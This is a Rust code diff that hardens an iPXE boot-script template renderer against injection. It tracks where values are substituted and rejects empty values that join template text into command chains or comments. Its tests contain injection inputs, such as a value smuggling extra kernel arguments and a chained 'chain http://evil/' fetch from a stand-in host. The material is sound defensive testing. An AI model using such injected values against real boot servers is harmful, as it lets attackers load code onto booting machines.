@@ -139,16 +139,26 @@ pub fn check_template(template: &str) -> Result<(), RenderError> {
 /// Substitutes the known variables of `template` (unknown `${...}` pass through untouched),
 /// then checks the whole script with [`check_script`].
 pub fn render(template: &str, vars: &Vars) -> Result<String, RenderError> {
-    let (out, origins) = render_with_origins(template, vars)?;
-    check_script(&out, &origins)?;
-    Ok(out)
+    let rendered = render_with_origins(template, vars)?;
+    check_script(&rendered)?;
+    Ok(rendered.text)
 }
 
-/// The rendered script and the origin of each of its bytes.
-pub fn render_with_origins(template: &str, vars: &Vars) -> Result<(String, Vec<Origin>), RenderError> {
+/// A rendered script with the origin of each byte and the places where a value was put in
+/// (an empty value leaves no byte but still joins the template text around it).
+#[derive(Debug, Clone)]
+pub struct Rendered {
+    pub text: String,
+    pub origins: Vec<Origin>,
+    pub substitutions: Vec<usize>,
+}
+
+/// The rendered script, with where each of its bytes came from.
+pub fn render_with_origins(template: &str, vars: &Vars) -> Result<Rendered, RenderError> {
     check_template(template)?;
     let mut out = String::with_capacity(template.len() + 1024);
     let mut origins = Vec::with_capacity(template.len() + 1024);
+    let mut substitutions = Vec::new();
     let mut push = |out: &mut String, text: &str, origin: Origin| {
         out.push_str(text);
         origins.extend(std::iter::repeat_n(origin, text.len()));
@@ -161,7 +171,10 @@ pub fn render_with_origins(template: &str, vars: &Vars) -> Result<(String, Vec<O
             Some(end) => {
                 let name = &after[..end];
                 match vars.get_with_origin(name) {
-                    Some((value, origin)) => push(&mut out, value, origin),
+                    Some((value, origin)) => {
+                        substitutions.push(out.len());
+                        push(&mut out, value, origin)
+                    }
                     None => push(&mut out, &rest[start..start + 2 + end + 1], Origin::Template),
                 }
                 rest = &after[end + 1..];
@@ -176,12 +189,13 @@ pub fn render_with_origins(template: &str, vars: &Vars) -> Result<(String, Vec<O
     if !out.ends_with('\n') {
         push(&mut out, "\n", Origin::Template);
     }
-    Ok((out, origins))
+    Ok(Rendered { text: out, origins, substitutions })
 }
 
 /// The invariant every script we answer satisfies, whatever the values: checked on the script
 /// itself, line by line, with the origin of each byte.
-pub fn check_script(script: &str, origins: &[Origin]) -> Result<(), RenderError> {
+pub fn check_script(rendered: &Rendered) -> Result<(), RenderError> {
+    let (script, origins) = (rendered.text.as_str(), rendered.origins.as_slice());
     debug_assert_eq!(script.len(), origins.len());
     let mut offset = 0;
     for (index, line) in script.split_inclusive('\n').enumerate() {
@@ -195,10 +209,14 @@ pub fn check_script(script: &str, origins: &[Origin]) -> Result<(), RenderError>
         if body.bytes().filter(|b| *b == b'"').count() % 2 != 0 {
             return bad("unbalanced double quotes");
         }
+        let line_start = offset - line.len();
         let mut start = 0;
         for word in body.split(' ') {
             let word_origin = &origin[start..start + word.len()];
-            let from_values = word_origin.iter().any(|o| *o != Origin::Template);
+            // A value shaped this word if it put bytes in it, or was put in at its start or
+            // inside it (an empty value can join template text into `&&` or `#…`).
+            let (from, to) = (line_start + start, line_start + start + word.len());
+            let from_values = word_origin.iter().any(|o| *o != Origin::Template) || rendered.substitutions.iter().any(|&at| at >= from && at < to);
             if from_values && (word == "&&" || word == "||") {
                 return bad("a value forms a command separator");
             }
@@ -254,6 +272,16 @@ mod tests {
         let mut v = Vars::new();
         v.set("a", "x b2c.extra_args_url=http://evil/").unwrap();
         assert!(matches!(render("#!ipxe\nkernel k ${a}\n", &v), Err(RenderError::UnsafeScript { .. })));
+    }
+
+    /// Found by the `render` fuzz target: an empty value turned template text into a comment.
+    #[test]
+    fn empty_values_cannot_join_template_text_into_a_comment_or_chain() {
+        let mut v = Vars::new();
+        v.set("a", "").unwrap();
+        assert!(matches!(render("#!ipxe\nkernel k ${a}#x console=ttyS0\n", &v), Err(RenderError::UnsafeScript { line: 2, .. })));
+        assert!(matches!(render("#!ipxe\nkernel k &${a}& chain http://evil/\n", &v), Err(RenderError::UnsafeScript { line: 2, .. })));
+        assert!(render("#!ipxe\nkernel k x${a} #comment-by-template\n", &v).is_ok());
     }
 
     #[test]
